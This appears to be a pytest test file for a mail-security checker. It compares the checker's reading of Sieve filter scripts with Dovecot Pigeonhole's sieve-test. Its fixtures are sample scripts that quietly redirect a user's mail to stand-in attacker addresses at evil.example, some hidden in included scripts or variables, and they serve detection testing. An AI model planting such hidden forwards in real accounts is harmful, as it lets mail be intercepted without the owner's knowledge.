"""What a Sieve script does, by the RFCs, against Pigeonhole's own `sieve-test` on the same script.

sieve-test runs a script on one message and prints the actions it would take. For scripts whose
tests do not depend on the message, cybercheck's reading must agree with it: where mail is
redirected, whether the message still lands in the inbox, whether an automatic reply is sent.
"""

from __future__ import annotations

import os
import re
import shutil
import subprocess
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

import pytest

from checks.mail.judge.rules import judge_rules
from checks.mail.owner import Owner
from checks.mail.records import ActionKind
from checks.mail.sources.sieve_script import included_names, read_script
from tests.conftest import require_server

MESSAGE = (
    "From: Bank <alerts@bank.example>\r\nTo: me@example.org\r\nSubject: Security alert\r\n"
    "Message-ID: <1@bank.example>\r\nDate: Mon, 7 Dec 2026 10:00:00 +0000\r\n\r\nA new sign-in.\r\n"
)
OWNER = Owner.of(["me@example.org"])
NOW = datetime(2026, 12, 7, 12, 0, tzinfo=UTC)

# name: (script, personal scripts it may include)
CASES: dict[str, tuple[str, dict[str, str]]] = {
    "fileinto and an explicit keep": ('require "fileinto";\nfileinto "Archive";\nkeep;\n', {}),
    "fileinto alone": ('require "fileinto";\nfileinto "Archive";\n', {}),
    "keep before a discard": ("keep;\ndiscard;\n", {}),
    "discard after an unconditional stop": ("stop;\ndiscard;\n", {}),
    "redirect after if true stop": ('if true { stop; }\nredirect "late@evil.example";\n', {}),
    "stop inside anyof(true), then keep": (
        'require "fileinto";\nif anyof (true) { fileinto "Trash"; stop; }\nkeep;\n',
        {},
    ),
    "redirect in if false": ('if false { redirect "never@evil.example"; }\n', {}),
    "redirect to a variable": (
        'require "variables";\nset "to" "Someone <spy@evil.example>";\nredirect "${to}";\n',
        {},
    ),
    "redirect to the owner in name-addr form": ('redirect "Me Myself <me@example.org>";\n', {}),
    "a forward in an included script": (
        'require "include";\ninclude :personal "fwd";\n',
        {"fwd": 'require "copy";\nredirect :copy "Hidden <hidden@evil.example>";\n'},
    ),
    "an include that stops everything": (
        'require ["include", "fileinto"];\ninclude "stopper";\nredirect "after@evil.example";\n',
        {"stopper": 'require "fileinto";\nfileinto "Trash";\nstop;\n'},
    ),
    "return ends only the included script": (
        'require ["include", "copy"];\ninclude "early";\nredirect :copy "main@evil.example";\n',
        {"early": 'require "include";\nreturn;\nredirect "skipped@evil.example";\n'},
    ),
    "a vacation whose window closed": (
        'require ["vacation", "date", "relational"];\n'
        'if allof(currentdate :value "ge" "iso8601" "2022-09-01T23:00:00Z",'
        ' currentdate :value "le" "iso8601" "2022-09-08T22:59:00Z") {\n'
        '  vacation :addresses ["Me <me@example.org>"] "Away";\n}\n',
        {},
    ),
    "a vacation whose window is open": (
        'require ["vacation", "date", "relational"];\n'
        'if currentdate :value "le" "iso8601" "2099-01-01T00:00:00Z" { vacation "Away"; }\n',
        {},
    ),
    "fileinto :copy": ('require ["fileinto", "copy"];\nfileinto :copy "Backup";\n', {}),
    "reject": ('require "reject";\nreject "No thank you";\n', {}),
}


@dataclass(frozen=True)
class Outcome:
    redirects: frozenset[str]
    in_inbox: bool
    replies: bool


def _pigeonhole(script: str, included: dict[str, str], folder: Path) -> Outcome:
    """Pigeonhole's sieve-test on the script and one message (personal scripts in ~/sieve)."""
    (folder / "sieve").mkdir()
    for name, body in included.items():
        (folder / "sieve" / f"{name}.sieve").write_text(body, encoding="utf-8")
    (folder / "main.sieve").write_text(script, encoding="utf-8")
    (folder / "message.eml").write_text(MESSAGE, encoding="utf-8")
    command = ["sieve-test", "-o", f"mail_location=maildir:{folder / 'Maildir'}"]
    if os.getuid() == 0:  # Dovecot will not read mail as root: run as nobody, in a folder it can read
        command += ["-o", "mail_uid=65534", "-o", "mail_gid=65534", "-o", "first_valid_uid=0"]
        for path in [folder, *folder.rglob("*")]:
            path.chmod(0o777)
    done = subprocess.run(
        [*command, str(folder / "main.sieve"), str(folder / "message.eml")],
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
        env={**os.environ, "HOME": str(folder)},
    )
    assert "final result" in done.stdout + done.stderr, done.stdout + done.stderr
    out = done.stdout
    performed = out.partition("Implicit keep:")[0]
    return Outcome(
        redirects=frozenset(re.findall(r"redirect message to: <([^>]*)>", out)),
        in_inbox="store message in folder: INBOX" in out,
        replies="send vacation message" in performed,
    )


def _cybercheck(script: str, included: dict[str, str]) -> Outcome:
    read = read_script(
        script,
        script="main",
        source="test",
        fetch=lambda name, is_global: None if is_global else included.get(name),
        has=lambda name: name in included,
    )
    running = [r for r in read.rules if r.until is None or r.until > NOW]
    codes = {f.code for f in judge_rules(read.rules, owner=Owner(), now=NOW)}
    redirects = [a for r in running for a in r.actions if a.kind is ActionKind.REDIRECT]
    return Outcome(  # a redirect without :copy leaves the person no copy (RFC 5228 4.2)
        redirects=frozenset(a.target for a in redirects),
        in_inbox="mail.rule.hides-all-mail" not in codes and all(a.keeps_copy for a in redirects),
        replies="mail.auto-reply.on" in codes,
    )


@pytest.fixture
def reachable_folder() -> Iterator[Path]:
    """A folder Dovecot's unprivileged user can reach (pytest's own is private to root)."""
    folder = Path(tempfile.mkdtemp(prefix="cybercheck-sieve-test-"))
    try:
        yield folder
    finally:
        shutil.rmtree(folder, ignore_errors=True)


@pytest.mark.parametrize("case", sorted(CASES))
def test_the_same_reading_as_pigeonhole(case: str, reachable_folder: Path) -> None:
    require_server("sieve-test")
    script, included = CASES[case]
    assert _cybercheck(script, included) == _pigeonhole(script, included, reachable_folder)


def test_the_owners_address_in_name_addr_form_is_their_own() -> None:
    script, _ = CASES["redirect to the owner in name-addr form"]
    assert not list(judge_rules(read_script(script, script="s", source="s").rules, owner=OWNER))


def test_an_include_that_cannot_be_read_is_a_gap_naming_it() -> None:
    script = 'require "include";\ninclude :personal "fwd";\ninclude :global "company";\n'
    read = read_script(script, script="main", source="s", fetch=lambda name, is_global: None)
    gaps = [str(g) for g in read.gaps]
    assert any('"fwd"' in g and "line 2" in g for g in gaps)
    assert any('"company"' in g and "global" in g for g in gaps)


def test_a_missing_optional_include_is_skipped_as_the_rfc_says() -> None:
    script = 'require "include";\ninclude :optional "maybe";\n'
    assert not read_script(script, script="m", source="s", fetch=lambda n, g: None, has=lambda n: False).gaps
    # read on its own, with nothing to fetch from, it is still a gap
    assert read_script(script, script="m", source="s").gaps


def test_an_include_loop_is_followed_once_and_said() -> None:
    scripts = {"a": 'include "b";\nredirect "x@evil.example";\n', "b": 'include "a";\n'}
    read = read_script(scripts["a"], script="a", source="s", fetch=lambda n, g: scripts.get(n))
    assert [a.target for r in read.rules for a in r.actions] == ["x@evil.example"]
    assert any("inside itself" in str(g) for g in read.gaps)
    assert included_names(scripts["a"]) == [("b", False)]


def test_commands_read_but_not_judged_are_gaps_naming_them() -> None:
    script = (
        'require ["editheader", "convert"];\naddheader "X-Seen" "1";\ndeleteheader "Subject";\n'
        'convert "image/tiff" "image/jpeg" ["pix-x=10"];\n'
    )
    gaps = " ".join(str(g) for g in read_script(script, script="main", source="s").gaps)
    assert '"addheader"' in gaps and '"deleteheader"' in gaps and '"convert"' in gaps
    assert "main, line 2:" in gaps


def test_text_that_is_not_sieve_is_a_gap_naming_the_line() -> None:
    script = 'if header :contains "from" "bank" {\n  redirect "a@evil.example"\n}\nfileinto @@ "x";\n'
    read = read_script(script, script="main", source="s")
    gaps = [str(g) for g in read.gaps]
    assert any("line 2" in g for g in gaps) and any("line 4" in g for g in gaps)
    assert [a.target for r in read.rules for a in r.actions if a.kind is ActionKind.REDIRECT] == [
        "a@evil.example"
    ]


def test_scripts_pigeonhole_compiles_parse_without_gaps() -> None:
    every = {name: body for _, included in CASES.values() for name, body in included.items()}
    for text in [script for script, _ in CASES.values()] + list(every.values()):
        read = read_script(text, script="m", source="s", fetch=lambda name, is_global: every.get(name))
        assert not [g for g in read.gaps if "could not be read as Sieve" in str(g)], text


def test_a_variable_set_under_a_test_may_hold_either_value() -> None:
    script = (
        'require "variables";\nset "to" "a@evil.example";\n'
        'if header :contains "subject" "x" { set "to" "b@evil.example"; }\nredirect "${to}";\n'
    )
    read = read_script(script, script="m", source="s")
    assert {a.target for r in read.rules for a in r.actions} == {"a@evil.example", "b@evil.example"}


def test_an_ended_rule_is_said_not_judged_and_a_later_one_is_judged() -> None:
    script, _ = CASES["a vacation whose window closed"]
    rule = read_script(script, script="m", source="s").rules[0]
    assert rule.until == datetime(2022, 9, 8, 22, 59, tzinfo=UTC)
    assert not list(judge_rules([rule], owner=OWNER, now=NOW))
    assert list(judge_rules([rule], owner=OWNER, now=datetime(2022, 9, 5, tzinfo=UTC)))


def test_a_script_cut_off_inside_a_string_or_block_is_a_gap() -> None:
    for script in (
        'if true {\n  redirect "a@evil.example";\n',
        'redirect "a@evil.exa',
        "/* never closed\nkeep;",
    ):
        read = read_script(script, script="main", source="s")
        assert any("could not be read as Sieve" in str(g) for g in read.gaps), script
